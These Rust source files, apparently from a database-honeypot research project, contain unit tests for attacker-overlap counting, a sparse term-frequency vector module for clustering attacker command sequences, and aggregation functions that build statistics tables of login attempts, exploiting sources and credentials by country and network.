        // 1 hits PG only; 2 hits PG+Redis; 3 hits all four; 4 hits Mongo only
        log(&store, 1, Dbms::Postgres);
        log(&store, 2, Dbms::Postgres);
        log(&store, 2, Dbms::Redis);
        for d in FAMILIES {
            log(&store, 3, d);
        }
        log(&store, 4, Dbms::MongoDb);

        let u = upset(&store, &FAMILIES);
        assert_eq!(u.total(), 4);
        assert_eq!(u.exclusive_total(), 2);
        assert_eq!(u.multi_total(), 2);
        assert_eq!(u.intersections[&vec![Dbms::Postgres]], 1);
        assert_eq!(u.intersections[&vec![Dbms::Postgres, Dbms::Redis]], 1);
        assert_eq!(u.set_sizes[&Dbms::Postgres], 3);
        assert_eq!(u.set_sizes[&Dbms::Redis], 2);
        assert_eq!(u.set_sizes[&Dbms::MongoDb], 2);
        // sorted() is size-descending
        let sorted = u.sorted();
        assert!(sorted.windows(2).all(|w| w[0].1 >= w[1].1));

        // the frame path yields identical intersections and set sizes
        let frame = crate::frame::AnalysisFrame::build(&store, &decoy_geo::GeoDb::builtin());
        let uv = upset_view(frame.view(crate::frame::Partition::All), &FAMILIES);
        assert_eq!(uv.intersections, u.intersections);
        assert_eq!(uv.set_sizes, u.set_sizes);
    }

    #[test]
    fn repeat_visits_count_once() {
        let store = EventStore::new();
        for _ in 0..5 {
            log(&store, 9, Dbms::Redis);
        }
        let u = upset(&store, &FAMILIES);
        assert_eq!(u.total(), 1);
        assert_eq!(u.set_sizes[&Dbms::Redis], 1);
    }

    #[test]
    fn families_filter_excludes_other_dbms() {
        let store = EventStore::new();
        log(&store, 1, Dbms::MySql); // not in the medium/high families
        let u = upset(&store, &FAMILIES);
        assert_eq!(u.total(), 0);
        assert!(u.intersections.is_empty());
    }
}
