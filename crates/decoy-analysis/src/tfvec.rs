//! Term-frequency vector and vocabulary types (§6.1), dependency-free.
//!
//! This module is deliberately std-only (no store/frame imports) so the
//! clustering core can be compiled and tested standalone — the same
//! shadow-build trick `decoy-xtask` and `decoy-fuzz` use in offline
//! containers. The public surface is re-exported through [`crate::tf`].
//!
//! Real attacker documents touch a handful of the vocabulary's terms, so
//! [`TfVector`] stores sorted `(term_index, tf)` pairs and computes squared
//! Euclidean distances with a two-pointer merge walk — O(nnz) instead of
//! O(|vocab|). A dense representation is kept for callers that build
//! vectors from raw coordinate arrays (tests, benches, ablations); mixed
//! comparisons and the implicit zero-extension semantics of the old dense
//! type are preserved exactly.

use std::collections::{BTreeMap, HashMap};
use std::sync::Arc;

/// Bidirectional term ↔ index mapping shared by a set of documents.
///
/// Each distinct term is allocated once as an `Arc<str>` shared by the
/// `index` map and the `terms` table; indices are assigned in first-seen
/// order, so interning the same document stream always yields the same
/// deterministic indices.
#[derive(Debug, Default, Clone)]
pub struct Vocabulary {
    terms: Vec<Arc<str>>,
    index: HashMap<Arc<str>, usize>,
}

impl Vocabulary {
    /// Empty vocabulary.
    pub fn new() -> Self {
        Vocabulary::default()
    }

    /// Index of `term`, inserting it if new.
    pub fn intern(&mut self, term: &str) -> usize {
        if let Some(&i) = self.index.get(term) {
            return i;
        }
        let shared: Arc<str> = Arc::from(term);
        let i = self.terms.len();
        self.terms.push(Arc::clone(&shared));
        self.index.insert(shared, i);
        i
    }

    /// Index of `term` if known.
    pub fn get(&self, term: &str) -> Option<usize> {
        self.index.get(term).copied()
    }

    /// The term at `index`.
    pub fn term(&self, index: usize) -> Option<&str> {
        self.terms.get(index).map(|t| &**t)
    }

    /// Number of distinct terms.
    pub fn len(&self) -> usize {
        self.terms.len()
    }

    /// True when no terms have been interned.
    pub fn is_empty(&self) -> bool {
        self.terms.is_empty()
    }
}

/// A TF vector over a [`Vocabulary`].
///
/// Missing dimensions are implicitly zero: a vector built before the
/// vocabulary grew compares correctly against one built after (the old
/// dense type's zero-extension contract).
#[derive(Debug, Clone)]
pub struct TfVector {
    repr: Repr,
    /// Total number of terms in the underlying document.
    pub total_terms: usize,
}

#[derive(Debug, Clone)]
enum Repr {
    /// Coordinates indexed by position; trailing dimensions implicit zero.
    Dense(Vec<f64>),
    /// Nonzero coordinates as `(term_index, tf)`, strictly sorted by index.
    Sparse(Vec<(usize, f64)>),
}

impl TfVector {
    /// Build from a document (sequence of terms), interning new terms.
    /// Generic over the term representation so `String` documents (legacy
    /// path) and interned `Arc<str>` documents (frame path) vectorize
    /// identically. The result is sparse: one entry per distinct term.
    pub fn from_terms<T: AsRef<str>>(terms: &[T], vocab: &mut Vocabulary) -> Self {
        let mut counts: BTreeMap<usize, f64> = BTreeMap::new();
        for term in terms {
            *counts.entry(vocab.intern(term.as_ref())).or_insert(0.0) += 1.0;
        }
        let total = terms.len().max(1) as f64;
        let entries = counts.into_iter().map(|(i, c)| (i, c / total)).collect();
        TfVector {
            repr: Repr::Sparse(entries),
            total_terms: terms.len(),
        }
    }

    /// Build from raw dense coordinates (tests, benches, ablations).
    pub fn from_dense(values: Vec<f64>, total_terms: usize) -> Self {
        TfVector {
            repr: Repr::Dense(values),
            total_terms,
        }
    }

    /// The coordinate at `index` (zero when absent).
    pub fn value(&self, index: usize) -> f64 {
        match &self.repr {
            Repr::Dense(values) => values.get(index).copied().unwrap_or(0.0),
            Repr::Sparse(entries) => entries
                .binary_search_by_key(&index, |&(i, _)| i)
                .map(|pos| entries[pos].1)
                .unwrap_or(0.0),
        }
    }

    /// Number of stored nonzero coordinates.
    pub fn nnz(&self) -> usize {
        match &self.repr {
            Repr::Dense(values) => values.iter().filter(|&&v| v != 0.0).count(),
            Repr::Sparse(entries) => entries.len(),
        }
    }

    /// Nonzero coordinates as `(index, value)`, in ascending index order.
    pub fn nonzero(&self) -> impl Iterator<Item = (usize, f64)> + '_ {
        let (sparse, dense) = match &self.repr {
            Repr::Sparse(entries) => (Some(entries.iter().copied()), None),
            Repr::Dense(values) => (None, Some(values.iter().copied())),
        };
        sparse.into_iter().flatten().chain(
            dense
                .into_iter()
                .flatten()
                .enumerate()
                .filter(|&(_, v)| v != 0.0),
        )
    }

    /// Squared Euclidean distance, treating missing dimensions as zero.
    ///
    /// Sparse × sparse (the clustering hot path) is a two-pointer merge
    /// walk over the nonzero entries — O(nnz(a) + nnz(b)).
    pub fn distance_sq(&self, other: &TfVector) -> f64 {
        match (&self.repr, &other.repr) {
            (Repr::Sparse(a), Repr::Sparse(b)) => sparse_sparse(a, b),
            (Repr::Dense(a), Repr::Dense(b)) => dense_dense(a, b),
            (Repr::Sparse(a), Repr::Dense(b)) | (Repr::Dense(b), Repr::Sparse(a)) => {
                sparse_dense(a, b)
            }
        }
    }

    /// Euclidean distance.
    pub fn distance(&self, other: &TfVector) -> f64 {
        self.distance_sq(other).sqrt()
    }
}

/// Semantic equality: same document length and the same nonzero
/// coordinates, regardless of representation or trailing explicit zeros.
impl PartialEq for TfVector {
    fn eq(&self, other: &Self) -> bool {
        self.total_terms == other.total_terms && self.nonzero().eq(other.nonzero())
    }
}

/// Two-pointer merge walk over sorted nonzero entries.
fn sparse_sparse(a: &[(usize, f64)], b: &[(usize, f64)]) -> f64 {
    let (mut i, mut j) = (0usize, 0usize);
    let mut sum = 0.0;
    while i < a.len() && j < b.len() {
        let (ia, va) = a[i];
        let (ib, vb) = b[j];
        match ia.cmp(&ib) {
            std::cmp::Ordering::Less => {
                sum += va * va;
                i += 1;
            }
            std::cmp::Ordering::Greater => {
                sum += vb * vb;
                j += 1;
            }
            std::cmp::Ordering::Equal => {
                let d = va - vb;
                sum += d * d;
                i += 1;
                j += 1;
            }
        }
    }
    sum += a[i..].iter().map(|&(_, v)| v * v).sum::<f64>();
    sum += b[j..].iter().map(|&(_, v)| v * v).sum::<f64>();
    sum
}

/// Dense fallback: zip over the common prefix plus an explicit tail sum
/// (the zero-extension semantics without per-element bounds branching).
fn dense_dense(a: &[f64], b: &[f64]) -> f64 {
    let common = a.len().min(b.len());
    let head: f64 = a[..common]
        .iter()
        .zip(&b[..common])
        .map(|(x, y)| (x - y) * (x - y))
        .sum();
    let tail: f64 = if a.len() > common {
        &a[common..]
    } else {
        &b[common..]
    }
    .iter()
    .map(|v| v * v)
    .sum();
    head + tail
}

/// Mixed comparison: walk the dense coordinates once with a cursor into
/// the sorted sparse entries, then account for sparse entries past the
/// dense length.
fn sparse_dense(sparse: &[(usize, f64)], dense: &[f64]) -> f64 {
    let mut cursor = 0usize;
    let mut sum = 0.0;
    for (i, &dv) in dense.iter().enumerate() {
        let sv = match sparse.get(cursor) {
            Some(&(idx, v)) if idx == i => {
                cursor += 1;
                v
            }
            _ => 0.0,
        };
        let d = dv - sv;
        sum += d * d;
    }
    sum += sparse[cursor..].iter().map(|&(_, v)| v * v).sum::<f64>();
    sum
}

#[cfg(test)]
mod tests {
    use super::*;

    fn terms(v: &[&str]) -> Vec<String> {
        v.iter().map(|s| s.to_string()).collect()
    }

    #[test]
    fn tf_matches_paper_definition() {
        let mut vocab = Vocabulary::new();
        // document: [SET, SET, GET] → tf(SET)=2/3, tf(GET)=1/3
        let v = TfVector::from_terms(&terms(&["SET", "SET", "GET"]), &mut vocab);
        assert_eq!(v.total_terms, 3);
        assert!((v.value(vocab.get("SET").unwrap()) - 2.0 / 3.0).abs() < 1e-12);
        assert!((v.value(vocab.get("GET").unwrap()) - 1.0 / 3.0).abs() < 1e-12);
        assert_eq!(v.nnz(), 2);
    }

    #[test]
    fn empty_document_is_zero_vector() {
        let mut vocab = Vocabulary::new();
        vocab.intern("SET");
        let v = TfVector::from_terms::<String>(&[], &mut vocab);
        assert_eq!(v.total_terms, 0);
        assert_eq!(v.nnz(), 0);
        assert_eq!(v.value(0), 0.0);
    }

    #[test]
    fn distances_tolerate_vocabulary_growth() {
        let mut vocab = Vocabulary::new();
        let a = TfVector::from_terms(&terms(&["SET"]), &mut vocab);
        let b = TfVector::from_terms(&terms(&["GET"]), &mut vocab);
        // a was built before GET existed; zero extension still applies
        assert!((a.distance_sq(&b) - 2.0).abs() < 1e-12);
        assert!((a.distance(&b) - 2.0_f64.sqrt()).abs() < 1e-12);
        // identical documents are at distance zero regardless of when built
        let a2 = TfVector::from_terms(&terms(&["SET"]), &mut vocab);
        assert_eq!(a.distance_sq(&a2), 0.0);
        assert_eq!(a, a2);
    }

    #[test]
    fn hash_variant_sequences_vectorize_identically() {
        // The motivating example of §6.1: DELETE /tmp/hash1 vs hash2 —
        // after masking both are the same term, so TF vectors coincide.
        let mut vocab = Vocabulary::new();
        let doc1 = terms(&["DELETE /tmp/<HASH>", "LOGIN"]);
        let doc2 = terms(&["DELETE /tmp/<HASH>", "LOGIN"]);
        let v1 = TfVector::from_terms(&doc1, &mut vocab);
        let v2 = TfVector::from_terms(&doc2, &mut vocab);
        assert_eq!(v1.distance_sq(&v2), 0.0);
        assert_eq!(v1, v2);
    }

    #[test]
    fn vocabulary_intern_is_idempotent() {
        let mut vocab = Vocabulary::new();
        let a = vocab.intern("INFO");
        let b = vocab.intern("INFO");
        assert_eq!(a, b);
        assert_eq!(vocab.len(), 1);
        assert_eq!(vocab.term(0), Some("INFO"));
        assert_eq!(vocab.term(1), None);
        assert!(!vocab.is_empty());
    }

    #[test]
    fn vocabulary_indices_are_deterministic() {
        let stream = ["GET", "SET", "DEL", "SET", "INFO", "GET"];
        let mut a = Vocabulary::new();
        let mut b = Vocabulary::new();
        for t in stream {
            a.intern(t);
        }
        for t in stream {
            b.intern(t);
        }
        for t in stream {
            assert_eq!(a.get(t), b.get(t));
        }
        assert_eq!(a.len(), 4);
        assert_eq!(a.get("GET"), Some(0));
        assert_eq!(a.get("SET"), Some(1));
        assert_eq!(a.get("DEL"), Some(2));
        assert_eq!(a.get("INFO"), Some(3));
    }

    #[test]
    fn dense_and_sparse_distances_agree() {
        // dense [0.5, 0, 0.25, 0, 0.25] vs sparse-built equivalent
        let dense = TfVector::from_dense(vec![0.5, 0.0, 0.25, 0.0, 0.25], 4);
        let mut vocab = Vocabulary::new();
        // interning order A B C D E gives indices 0..5; doc hits 0, 2, 4
        for t in ["A", "B", "C", "D", "E"] {
            vocab.intern(t);
        }
        let sparse = TfVector::from_terms(&terms(&["A", "A", "C", "E"]), &mut vocab);
        assert_eq!(dense, sparse);
        assert_eq!(dense.distance_sq(&sparse), 0.0);

        let other_dense = TfVector::from_dense(vec![0.0, 1.0], 1);
        let other_sparse = TfVector::from_terms(&terms(&["B"]), &mut vocab);
        // all four representation pairings give the same distance
        let expect = 0.25 + 1.0 + 0.0625 + 0.0625;
        for x in [&dense, &sparse] {
            for y in [&other_dense, &other_sparse] {
                assert!((x.distance_sq(y) - expect).abs() < 1e-12);
                assert!((y.distance_sq(x) - expect).abs() < 1e-12);
            }
        }
    }

    #[test]
    fn dense_tail_handles_both_sides() {
        let short = TfVector::from_dense(vec![1.0], 1);
        let long = TfVector::from_dense(vec![0.0, 0.0, 2.0], 1);
        assert!((short.distance_sq(&long) - 5.0).abs() < 1e-12);
        assert!((long.distance_sq(&short) - 5.0).abs() < 1e-12);
    }

    #[test]
    fn equality_ignores_trailing_zeros_and_representation() {
        let a = TfVector::from_dense(vec![0.5, 0.0], 2);
        let b = TfVector::from_dense(vec![0.5], 2);
        assert_eq!(a, b);
        let c = TfVector::from_dense(vec![0.5], 3);
        assert_ne!(a, c); // different document length
    }
}
