//! The aggregations behind the paper's tables.
//!
//! * [`logins_by_country`] — Table 5 (top countries by login attempts, with
//!   the per-DBMS split and the IPs-attempting / IPs-total ratio).
//! * [`asn_table`] — Table 6 (top ASes by IP count with login distribution).
//! * [`astype_login_ips`] — Table 7 (#IPs by AS type attempting logins).
//! * [`exploit_countries`] — Table 10 (exploiting IPs by country × family).
//! * [`astype_behavior`] — Table 11 (AS type × behavior class).
//! * [`top_credentials`] — Table 12 (top usernames/passwords).
//! * [`bruteforce_summary`] / [`scanning_summary`] — the §5 headline stats.

use crate::classify::{classify_sources, classify_view, Behavior};
use crate::frame::{FrameKind, FrameView};
use decoy_geo::{AsType, GeoDb};
use decoy_store::{Dbms, EventKind, EventStore};
use std::collections::{BTreeMap, BTreeSet, HashMap};
use std::net::IpAddr;
use std::sync::Arc;

/// One row of Table 5.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct CountryLoginRow {
    /// ISO country code ("??" for unmapped space).
    pub country: String,
    /// Total login attempts from the country.
    pub logins: u64,
    /// Distinct IPs that attempted at least one login.
    pub ips_with_logins: usize,
    /// Distinct IPs observed at all.
    pub ips_total: usize,
    /// Login attempts per DBMS.
    pub per_dbms: BTreeMap<Dbms, u64>,
}

/// Build Table 5 rows, sorted by login attempts descending.
pub fn logins_by_country(store: &EventStore, geo: &GeoDb) -> Vec<CountryLoginRow> {
    let mut logins: HashMap<String, u64> = HashMap::new();
    let mut per_dbms: HashMap<String, BTreeMap<Dbms, u64>> = HashMap::new();
    let mut login_ips: HashMap<String, BTreeSet<IpAddr>> = HashMap::new();
    let mut all_ips: HashMap<String, BTreeSet<IpAddr>> = HashMap::new();
    store.fold((), |(), event| {
        let country = geo
            .lookup(event.src)
            .map(|m| m.country)
            .unwrap_or_else(|| "??".to_string());
        all_ips
            .entry(country.clone())
            .or_default()
            .insert(event.src);
        if matches!(event.kind, EventKind::LoginAttempt { .. }) {
            *logins.entry(country.clone()).or_insert(0) += 1;
            *per_dbms
                .entry(country.clone())
                .or_default()
                .entry(event.honeypot.dbms)
                .or_insert(0) += 1;
            login_ips.entry(country).or_default().insert(event.src);
        }
    });
    let mut rows: Vec<CountryLoginRow> = all_ips
        .keys()
        .map(|country| CountryLoginRow {
            country: country.clone(),
            logins: logins.get(country).copied().unwrap_or(0),
            ips_with_logins: login_ips.get(country).map(BTreeSet::len).unwrap_or(0),
            ips_total: all_ips[country].len(),
            per_dbms: per_dbms.get(country).cloned().unwrap_or_default(),
        })
        .collect();
    rows.sort_by(|a, b| {
        b.logins
            .cmp(&a.logins)
            .then_with(|| a.country.cmp(&b.country))
    });
    rows
}

/// One row of Table 6.
#[derive(Debug, Clone, PartialEq)]
pub struct AsnRow {
    /// AS number.
    pub asn: u32,
    /// AS name (empty for unmapped).
    pub name: String,
    /// Distinct IPs from this AS.
    pub ips: usize,
    /// Share of all observed IPs.
    pub share: f64,
    /// Total login attempts.
    pub logins: u64,
    /// Login attempts per DBMS.
    pub per_dbms: BTreeMap<Dbms, u64>,
}

/// Build Table 6 rows, sorted by IP count descending. Unmapped sources are
/// aggregated under ASN 0.
pub fn asn_table(store: &EventStore, geo: &GeoDb) -> Vec<AsnRow> {
    let mut ips: HashMap<u32, BTreeSet<IpAddr>> = HashMap::new();
    let mut logins: HashMap<u32, u64> = HashMap::new();
    let mut per_dbms: HashMap<u32, BTreeMap<Dbms, u64>> = HashMap::new();
    store.fold((), |(), event| {
        let asn = geo.lookup(event.src).map(|m| m.asn).unwrap_or(0);
        ips.entry(asn).or_default().insert(event.src);
        if matches!(event.kind, EventKind::LoginAttempt { .. }) {
            *logins.entry(asn).or_insert(0) += 1;
            *per_dbms
                .entry(asn)
                .or_default()
                .entry(event.honeypot.dbms)
                .or_insert(0) += 1;
        }
    });
    let total_ips: usize = ips.values().map(BTreeSet::len).sum();
    let mut rows: Vec<AsnRow> = ips
        .iter()
        .map(|(&asn, set)| AsnRow {
            asn,
            name: geo.record(asn).map(|r| r.name.clone()).unwrap_or_default(),
            ips: set.len(),
            share: set.len() as f64 / total_ips.max(1) as f64,
            logins: logins.get(&asn).copied().unwrap_or(0),
            per_dbms: per_dbms.get(&asn).cloned().unwrap_or_default(),
        })
        .collect();
    rows.sort_by(|a, b| b.ips.cmp(&a.ips).then_with(|| a.asn.cmp(&b.asn)));
    rows
}

/// Table 7: distinct IPs that attempted logins, by AS type.
pub fn astype_login_ips(store: &EventStore, geo: &GeoDb) -> BTreeMap<AsType, usize> {
    let mut per_type: BTreeMap<AsType, BTreeSet<IpAddr>> = BTreeMap::new();
    store.fold((), |(), event| {
        if matches!(event.kind, EventKind::LoginAttempt { .. }) {
            let as_type = geo
                .lookup(event.src)
                .map(|m| m.as_type)
                .unwrap_or(AsType::Unknown);
            per_type.entry(as_type).or_default().insert(event.src);
        }
    });
    per_type.into_iter().map(|(t, s)| (t, s.len())).collect()
}

/// One row of Table 10.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ExploitCountryRow {
    /// ISO country code.
    pub country: String,
    /// Total exploiting IPs.
    pub ips: usize,
    /// Exploiting IPs per honeypot family.
    pub per_dbms: BTreeMap<Dbms, usize>,
}

/// Build Table 10: exploiting sources by country and family, sorted by
/// total descending. `families` is the medium/high set.
pub fn exploit_countries(
    store: &EventStore,
    geo: &GeoDb,
    families: &[Dbms],
) -> Vec<ExploitCountryRow> {
    let mut per_country: BTreeMap<String, BTreeSet<IpAddr>> = BTreeMap::new();
    let mut per_pair: BTreeMap<(String, Dbms), BTreeSet<IpAddr>> = BTreeMap::new();
    for &dbms in families {
        for (src, profile) in classify_sources(store, Some(dbms)) {
            if !profile.exploiting {
                continue;
            }
            let country = geo
                .lookup(src)
                .map(|m| m.country)
                .unwrap_or_else(|| "??".to_string());
            per_country.entry(country.clone()).or_default().insert(src);
            per_pair.entry((country, dbms)).or_default().insert(src);
        }
    }
    let mut rows: Vec<ExploitCountryRow> = per_country
        .iter()
        .map(|(country, set)| ExploitCountryRow {
            country: country.clone(),
            ips: set.len(),
            per_dbms: families
                .iter()
                .map(|&d| {
                    (
                        d,
                        per_pair
                            .get(&(country.clone(), d))
                            .map(BTreeSet::len)
                            .unwrap_or(0),
                    )
                })
                .collect(),
        })
        .collect();
    rows.sort_by(|a, b| b.ips.cmp(&a.ips).then_with(|| a.country.cmp(&b.country)));
    rows
}

/// Table 11: AS type × primary behavior class, over `families`.
pub fn astype_behavior(
    store: &EventStore,
    geo: &GeoDb,
    families: &[Dbms],
) -> BTreeMap<AsType, BTreeMap<Behavior, usize>> {
    // a source's profile is merged across families, then counted once
    let mut merged: BTreeMap<IpAddr, crate::classify::BehaviorProfile> = BTreeMap::new();
    for &dbms in families {
        for (src, profile) in classify_sources(store, Some(dbms)) {
            merged.entry(src).or_default().merge(profile);
        }
    }
    let mut out: BTreeMap<AsType, BTreeMap<Behavior, usize>> = BTreeMap::new();
    for (src, profile) in merged {
        let as_type = geo
            .lookup(src)
            .map(|m| m.as_type)
            .unwrap_or(AsType::Unknown);
        *out.entry(as_type)
            .or_default()
            .entry(profile.primary())
            .or_insert(0) += 1;
    }
    out
}

/// Table 12 shape: top-k usernames and passwords for one DBMS.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct CredentialStats {
    /// (username, attempts), descending.
    pub top_usernames: Vec<(String, u64)>,
    /// (password, attempts), descending.
    pub top_passwords: Vec<(String, u64)>,
    /// Distinct (username, password) combinations.
    pub unique_combinations: usize,
    /// Distinct usernames.
    pub unique_usernames: usize,
    /// Distinct passwords.
    pub unique_passwords: usize,
}

/// Compute credential statistics for `dbms`, keeping the top `k` of each.
pub fn top_credentials(store: &EventStore, dbms: Dbms, k: usize) -> CredentialStats {
    let mut users: HashMap<String, u64> = HashMap::new();
    let mut passwords: HashMap<String, u64> = HashMap::new();
    let mut combos: BTreeSet<(String, String)> = BTreeSet::new();
    for event in store.by_dbms(dbms) {
        if let EventKind::LoginAttempt {
            username, password, ..
        } = &event.kind
        {
            *users.entry(username.clone()).or_insert(0) += 1;
            *passwords.entry(password.clone()).or_insert(0) += 1;
            combos.insert((username.clone(), password.clone()));
        }
    }
    let top = |map: HashMap<String, u64>| {
        let mut v: Vec<(String, u64)> = map.into_iter().collect();
        v.sort_by(|a, b| b.1.cmp(&a.1).then_with(|| a.0.cmp(&b.0)));
        v.truncate(k);
        v
    };
    let unique_usernames = users.len();
    let unique_passwords = passwords.len();
    CredentialStats {
        top_usernames: top(users),
        top_passwords: top(passwords),
        unique_combinations: combos.len(),
        unique_usernames,
        unique_passwords,
    }
}

/// The §5 brute-force headline numbers.
#[derive(Debug, Clone, Default, PartialEq)]
pub struct BruteforceSummary {
    /// Total login attempts across all DBMS.
    pub total_logins: u64,
    /// Login attempts per DBMS.
    pub per_dbms: BTreeMap<Dbms, u64>,
    /// Distinct sources that attempted at least one login.
    pub clients: usize,
    /// Mean attempts per such source.
    pub avg_attempts_per_client: f64,
}

/// Compute the brute-force summary over the whole store.
pub fn bruteforce_summary(store: &EventStore) -> BruteforceSummary {
    let mut summary = BruteforceSummary::default();
    let mut clients: BTreeSet<IpAddr> = BTreeSet::new();
    store.fold((), |(), event| {
        if matches!(event.kind, EventKind::LoginAttempt { .. }) {
            summary.total_logins += 1;
            *summary.per_dbms.entry(event.honeypot.dbms).or_insert(0) += 1;
            clients.insert(event.src);
        }
    });
    summary.clients = clients.len();
    summary.avg_attempts_per_client = if clients.is_empty() {
        0.0
    } else {
        summary.total_logins as f64 / clients.len() as f64
    };
    summary
}

/// The §5 control-group comparison: multi-service VMs vs single-service
/// VMs ("Adversaries do not care whether a system runs multiple services").
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct ControlGroupSummary {
    /// Distinct sources seen on single-service instances.
    pub single_ips: usize,
    /// Distinct sources seen on multi-service instances.
    pub multi_ips: usize,
    /// Sources seen on both.
    pub overlap: usize,
    /// Sources that brute-forced only single-service instances.
    pub brute_single_only: usize,
    /// Sources that brute-forced only multi-service instances.
    pub brute_multi_only: usize,
}

/// Compute the §5 control-group comparison over the low-interaction fleet.
pub fn control_group_summary(store: &EventStore) -> ControlGroupSummary {
    use decoy_store::ConfigVariant;
    let mut single: BTreeSet<IpAddr> = BTreeSet::new();
    let mut multi: BTreeSet<IpAddr> = BTreeSet::new();
    let mut brute_single: BTreeSet<IpAddr> = BTreeSet::new();
    let mut brute_multi: BTreeSet<IpAddr> = BTreeSet::new();
    store.fold((), |(), event| {
        let is_login = matches!(event.kind, EventKind::LoginAttempt { .. });
        match event.honeypot.config {
            ConfigVariant::SingleService => {
                single.insert(event.src);
                if is_login {
                    brute_single.insert(event.src);
                }
            }
            ConfigVariant::MultiService => {
                multi.insert(event.src);
                if is_login {
                    brute_multi.insert(event.src);
                }
            }
            _ => {}
        }
    });
    ControlGroupSummary {
        overlap: single.intersection(&multi).count(),
        brute_single_only: brute_single.difference(&brute_multi).count(),
        brute_multi_only: brute_multi.difference(&brute_single).count(),
        single_ips: single.len(),
        multi_ips: multi.len(),
    }
}

/// The §5 scanning-population summary.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct ScanningSummary {
    /// Distinct sources observed.
    pub unique_ips: usize,
    /// Sources on the institutional-scanner list.
    pub institutional_ips: usize,
    /// (country, distinct sources), descending.
    pub country_counts: Vec<(String, usize)>,
}

/// Compute the scanning summary over the whole store.
pub fn scanning_summary(store: &EventStore, geo: &GeoDb) -> ScanningSummary {
    let sources = store.sources();
    let mut per_country: HashMap<String, usize> = HashMap::new();
    let mut institutional = 0usize;
    for src in &sources {
        let meta = geo.lookup(*src);
        let country = meta
            .as_ref()
            .map(|m| m.country.clone())
            .unwrap_or_else(|| "??".to_string());
        *per_country.entry(country).or_insert(0) += 1;
        if meta.map(|m| m.institutional).unwrap_or(false) {
            institutional += 1;
        }
    }
    let mut country_counts: Vec<(String, usize)> = per_country.into_iter().collect();
    country_counts.sort_by(|a, b| b.1.cmp(&a.1).then_with(|| a.0.cmp(&b.0)));
    ScanningSummary {
        unique_ips: sources.len(),
        institutional_ips: institutional,
        country_counts,
    }
}

// ---------------------------------------------------------------------------
// Frame-based variants: identical aggregations over a FrameView, using the
// frame's memoized per-IP enrichment instead of per-event GeoDb lookups.
// Each must produce byte-identical rows to its store-scanning counterpart.
// ---------------------------------------------------------------------------

/// Frame counterpart of [`logins_by_country`].
pub fn logins_by_country_view(view: FrameView<'_>) -> Vec<CountryLoginRow> {
    let mut logins: HashMap<String, u64> = HashMap::new();
    let mut per_dbms: HashMap<String, BTreeMap<Dbms, u64>> = HashMap::new();
    let mut login_ips: HashMap<String, BTreeSet<IpAddr>> = HashMap::new();
    let mut all_ips: HashMap<String, BTreeSet<IpAddr>> = HashMap::new();
    for event in view.events() {
        let country = view.country(event.src).to_string();
        all_ips
            .entry(country.clone())
            .or_default()
            .insert(event.src);
        if matches!(event.kind, FrameKind::LoginAttempt { .. }) {
            *logins.entry(country.clone()).or_insert(0) += 1;
            *per_dbms
                .entry(country.clone())
                .or_default()
                .entry(event.honeypot.dbms)
                .or_insert(0) += 1;
            login_ips.entry(country).or_default().insert(event.src);
        }
    }
    let mut rows: Vec<CountryLoginRow> = all_ips
        .keys()
        .map(|country| CountryLoginRow {
            country: country.clone(),
            logins: logins.get(country).copied().unwrap_or(0),
            ips_with_logins: login_ips.get(country).map(BTreeSet::len).unwrap_or(0),
            ips_total: all_ips[country].len(),
            per_dbms: per_dbms.get(country).cloned().unwrap_or_default(),
        })
        .collect();
    rows.sort_by(|a, b| {
        b.logins
            .cmp(&a.logins)
            .then_with(|| a.country.cmp(&b.country))
    });
    rows
}

/// Frame counterpart of [`asn_table`]. The AS name comes from the memoized
/// enrichment (same registry record the legacy path re-resolves per row).
pub fn asn_table_view(view: FrameView<'_>) -> Vec<AsnRow> {
    let mut ips: HashMap<u32, BTreeSet<IpAddr>> = HashMap::new();
    let mut names: HashMap<u32, String> = HashMap::new();
    let mut logins: HashMap<u32, u64> = HashMap::new();
    let mut per_dbms: HashMap<u32, BTreeMap<Dbms, u64>> = HashMap::new();
    for event in view.events() {
        let meta = view.meta(event.src);
        let asn = meta.map(|m| m.asn).unwrap_or(0);
        if let Some(meta) = meta {
            names.entry(asn).or_insert_with(|| meta.as_name.clone());
        }
        ips.entry(asn).or_default().insert(event.src);
        if matches!(event.kind, FrameKind::LoginAttempt { .. }) {
            *logins.entry(asn).or_insert(0) += 1;
            *per_dbms
                .entry(asn)
                .or_default()
                .entry(event.honeypot.dbms)
                .or_insert(0) += 1;
        }
    }
    let total_ips: usize = ips.values().map(BTreeSet::len).sum();
    let mut rows: Vec<AsnRow> = ips
        .iter()
        .map(|(&asn, set)| AsnRow {
            asn,
            name: names.get(&asn).cloned().unwrap_or_default(),
            ips: set.len(),
            share: set.len() as f64 / total_ips.max(1) as f64,
            logins: logins.get(&asn).copied().unwrap_or(0),
            per_dbms: per_dbms.get(&asn).cloned().unwrap_or_default(),
        })
        .collect();
    rows.sort_by(|a, b| b.ips.cmp(&a.ips).then_with(|| a.asn.cmp(&b.asn)));
    rows
}

/// Frame counterpart of [`astype_login_ips`].
pub fn astype_login_ips_view(view: FrameView<'_>) -> BTreeMap<AsType, usize> {
    let mut per_type: BTreeMap<AsType, BTreeSet<IpAddr>> = BTreeMap::new();
    for event in view.events() {
        if matches!(event.kind, FrameKind::LoginAttempt { .. }) {
            let as_type = view
                .meta(event.src)
                .map(|m| m.as_type)
                .unwrap_or(AsType::Unknown);
            per_type.entry(as_type).or_default().insert(event.src);
        }
    }
    per_type.into_iter().map(|(t, s)| (t, s.len())).collect()
}

/// Frame counterpart of [`exploit_countries`].
pub fn exploit_countries_view(view: FrameView<'_>, families: &[Dbms]) -> Vec<ExploitCountryRow> {
    let mut per_country: BTreeMap<String, BTreeSet<IpAddr>> = BTreeMap::new();
    let mut per_pair: BTreeMap<(String, Dbms), BTreeSet<IpAddr>> = BTreeMap::new();
    for &dbms in families {
        for (src, profile) in classify_view(view, Some(dbms)) {
            if !profile.exploiting {
                continue;
            }
            let country = view.country(src).to_string();
            per_country.entry(country.clone()).or_default().insert(src);
            per_pair.entry((country, dbms)).or_default().insert(src);
        }
    }
    let mut rows: Vec<ExploitCountryRow> = per_country
        .iter()
        .map(|(country, set)| ExploitCountryRow {
            country: country.clone(),
            ips: set.len(),
            per_dbms: families
                .iter()
                .map(|&d| {
                    (
                        d,
                        per_pair
                            .get(&(country.clone(), d))
                            .map(BTreeSet::len)
                            .unwrap_or(0),
                    )
                })
                .collect(),
        })
        .collect();
